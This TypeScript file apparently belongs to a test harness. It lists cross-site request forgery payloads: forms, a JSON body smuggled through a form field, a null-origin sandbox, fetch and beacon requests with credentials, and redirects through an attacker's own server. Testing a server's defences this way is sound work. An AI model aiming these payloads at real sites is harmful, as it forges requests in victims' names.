/** What a page of another origin can try, as scripts for it. */

export type Attack = {
  readonly name: string
  /**
   * The body of an async function, with `url` (what it is aimed at) and `own` (the attacker's own
   * server, which redirects). It returns true where the request has certainly been sent.
   */
  readonly script: string
  /** It takes the page itself away. */
  readonly navigates?: boolean
}

const FIELDS = `
  const form = document.createElement('form')
  const field = document.createElement('input')
  field.name = '{"claims":{"sub":"eve"},"data":{"planted":1},"permanent":true,"x":"'
  field.value = '"}'
  form.append(field)
  document.body.append(form)`

const FRAME = `
  const frame = document.createElement('iframe')
  frame.name = 'frame' + Math.random()
  document.body.append(frame)`

const BODY = JSON.stringify('{"data":{"planted":1},"claims":{"sub":"eve"},"permanent":true}')

export const ATTACKS: readonly Attack[] = [
  ...['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'].flatMap((type) => [
    { name: `form, ${type}`, script: form(`form.enctype = '${type}'`, true) },
    {
      name: `top-level form, ${type}`,
      script: form(`form.enctype = '${type}'`, false),
      navigates: true,
    },
  ]),
  {
    name: 'form through a redirect of its own',
    script: form(`form.action = own + '?to=' + encodeURIComponent(url)`, true),
  },
  {
    name: 'top-level form through a redirect of its own',
    script: form(`form.action = own + '?to=' + encodeURIComponent(url)`, false),
    navigates: true,
  },
  {
    // Its fields take the place of the query, so one of them is what is looked for.
    name: 'form of method GET',
    script: form(
      `form.method = 'get'
       field.name = 'attack'
       field.value = new URL(url).searchParams.get('attack')`,
      true,
    ),
  },
  {
    name: 'form in a sandbox, whose origin is null',
    script: `
      const frame = document.createElement('iframe')
      frame.sandbox = 'allow-forms allow-scripts'
      frame.srcdoc = '<form id=f method=post enctype=text/plain action="' + url + '"><input name=a></form>' +
        '<script>f.submit()</' + 'script>'
      document.body.append(frame)
      return true`,
  },
  ...['text/plain', 'application/x-www-form-urlencoded', 'application/json'].map((type) => ({
    name: `fetch no-cors, ${type}`,
    script: `
      await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: ${BODY},
        headers: { 'content-type': '${type}' } })
      return true`,
  })),
  ...['PUT', 'PATCH', 'DELETE', 'POST', 'GET'].flatMap((method) =>
    ['cors', 'cors keepalive'].map((mode) => ({
      name: `fetch ${mode}, ${method}`,
      script: `
        await fetch(url, { method: '${method}', mode: 'cors', credentials: 'include',
          keepalive: ${mode !== 'cors'},
          ${method === 'GET' ? '' : `body: ${BODY}, headers: { 'content-type': 'application/json' }`} })
        return true`,
    })),
  ),
  {
    name: 'fetch no-cors through a redirect of its own',
    script: `
      await fetch(own + '?to=' + encodeURIComponent(url), { method: 'POST', mode: 'no-cors',
        credentials: 'include', body: ${BODY} })
      return true`,
  },
  {
    name: 'fetch that hides its referrer',
    script: `
      await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: ${BODY},
        referrerPolicy: 'no-referrer', redirect: 'follow' })
      return true`,
  },
  {
    name: 'fetch from a data: document',
    script: `
      const frame = document.createElement('iframe')
      frame.src = 'data:text/html,<script>fetch("' + url + '",{method:"POST",mode:"no-cors",' +
        'credentials:"include",body:"1"})</' + 'script>'
      document.body.append(frame)
      return true`,
  },
  {
    name: 'XMLHttpRequest',
    script: `
      const request = new XMLHttpRequest()
      request.open('POST', url)
      request.withCredentials = true
      const done = new Promise((resolve) => { request.onloadend = resolve })
      request.send(${BODY})
      await done
      return true`,
  },
  { name: 'sendBeacon', script: `return navigator.sendBeacon(url, ${BODY})` },
  {
    name: 'sendBeacon of JSON',
    script: `navigator.sendBeacon(url, new Blob([${BODY}], { type: 'application/json' }))`,
  },
  {
    name: 'image',
    script: `
      const image = new Image()
      const done = new Promise((resolve) => { image.onload = image.onerror = resolve })
      image.src = url
      await done
      return true`,
  },
  {
    name: 'script element',
    script: `
      const element = document.createElement('script')
      const done = new Promise((resolve) => { element.onload = element.onerror = resolve })
      element.src = url
      document.body.append(element)
      await done
      return true`,
  },
  {
    name: 'ping of a link',
    script: `
      const link = document.createElement('a')
      link.href = '#'
      link.ping = url
      document.body.append(link)
      link.click()`,
  },
  { name: 'navigation', script: 'location.href = url; return true', navigates: true },
]

/** One that names its target; where to it is sent, and as what, may be changed by `change`. */
function form(change: string, inFrame: boolean): string {
  return `
    ${FIELDS}
    form.method = 'post'
    form.action = url
    ${inFrame ? `${FRAME}\n form.target = frame.name` : ''}
    ${change}
    form.submit()
    return true`
}
